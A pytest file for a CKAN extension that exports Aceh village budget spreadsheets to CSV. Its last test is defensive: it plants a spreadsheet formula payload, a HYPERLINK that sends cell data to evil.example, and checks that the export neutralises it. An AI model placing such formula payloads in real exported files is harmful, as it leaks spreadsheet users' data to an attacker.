"""The canonical long CSV."""
import csv
import io
from decimal import Decimal as D

from ckanext.bandaaceh.apbdes import CSV_COLUMNS, CSV_FIELDS, budget_rows, read_budget, to_csv_bytes, write_csv
from ckanext.bandaaceh.apbdes.normalise import format_amount


def test_fields():
    assert CSV_COLUMNS == ("kode_wilayah", "gampong", "kecamatan", "tahun", "tahap", "periode", "kode_rekening",
                           "kode_kegiatan", "bidang", "uraian", "anggaran", "anggaran_sebelum", "realisasi",
                           "sumber_dana")
    types = dict(CSV_FIELDS)
    assert types["tahun"] == "int" and types["anggaran"] == types["realisasi"] == types["anggaran_sebelum"] == "numeric"
    assert {t for t in types.values()} == {"text", "int", "numeric"}


def test_format_amount():
    assert format_amount(D("1500000.00")) == "1500000"
    assert format_amount(D("12.50")) == "12.5"
    assert format_amount(D("-45000000")) == "-45000000"
    assert format_amount(D("1E+3")) == "1000"
    assert format_amount(None) == ""


def test_csv_penjabaran(fixtures, ref):
    b = read_budget(fixtures / "penjabaran.xlsx", reference=ref)
    data = to_csv_bytes(b)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert len(rows) == 33
    assert tuple(rows[0]) == CSV_COLUMNS
    assert rows[0] == {"kode_wilayah": "11.71.01.2001", "gampong": "Kampung Baru", "kecamatan": "Baiturrahman",
                       "tahun": "2025", "tahap": "murni", "periode": "", "kode_rekening": "4.1.1.01", "kode_kegiatan": "",
                       "bidang": "", "uraian": "Bagi Hasil Usaha BUMG", "anggaran": "15000000", "anggaran_sebelum": "",
                       "realisasi": "",
                       "sumber_dana": "PAD"}
    road = next(r for r in rows if r["kode_rekening"] == "5.3.5.01")
    assert (road["kode_kegiatan"], road["bidang"], road["anggaran"], road["sumber_dana"]) == (
        "02.03.10", "02", "585000000", "DDS")
    assert sum(D(r["anggaran"]) for r in rows if r["kode_rekening"].startswith("5")) == D("1763529770")
    bunga = next(r for r in rows if r["kode_rekening"] == "4.3.6.01")
    assert bunga["sumber_dana"] == ""  # not derivable from 4.3.x
    silpa = next(r for r in rows if r["kode_rekening"] == "6.1.1.01")
    assert silpa["sumber_dana"] == ""  # only pendapatan is derived


def test_csv_realisasi_and_derived_sumber(fixtures, ref):
    b = read_budget(fixtures / "realisasi.xlsx", reference=ref)
    rows = list(csv.DictReader(io.StringIO(to_csv_bytes(b).decode())))
    dd = next(r for r in rows if r["kode_rekening"] == "4.2.1")
    assert (dd["tahap"], dd["periode"], dd["anggaran"], dd["realisasi"], dd["sumber_dana"]) == (
        "realisasi", "semester-1", "964073000", "578443000", "DDS")


def test_write_csv_many_budgets(fixtures, ref, tmp_path):
    a = read_budget(fixtures / "penjabaran.xlsx", reference=ref)
    b = read_budget(fixtures / "siskeudes.zip", reference=ref)
    out = tmp_path / "apbg.csv"
    assert write_csv([a, b], out) == 33 + 47
    text = out.read_text(encoding="utf-8")
    assert text.count("kode_wilayah") == 1 and len(text.splitlines()) == 81


def test_csv_neutralises_formulas_in_text_but_keeps_the_rows_exact(fixtures, ref):
    # The rows (what the DataStore gets) keep the text as typed; the downloadable CSV prefixes a
    # cell that a spreadsheet would evaluate with a single quote. Amounts are not text.
    b = read_budget(fixtures / "penjabaran.xlsx", reference=ref)
    leaf = next(ln for ln in b.lines if ln.is_leaf and ln.account == "5.3.5.01")
    leaf.description = '=HYPERLINK("http://evil.example/?"&A1,"Jalan")'
    b.gampong = "@Kampung Baru"
    row = next(r for r in budget_rows(b) if r["kode_rekening"] == "5.3.5.01")
    assert row["uraian"] == leaf.description and row["gampong"] == "@Kampung Baru"
    rows = list(csv.DictReader(io.StringIO(to_csv_bytes(b).decode("utf-8"))))
    road = next(r for r in rows if r["kode_rekening"] == "5.3.5.01")
    assert road["uraian"] == "'" + leaf.description and road["anggaran"] == "585000000"
    assert {r["gampong"] for r in rows} == {"'@Kampung Baru"}
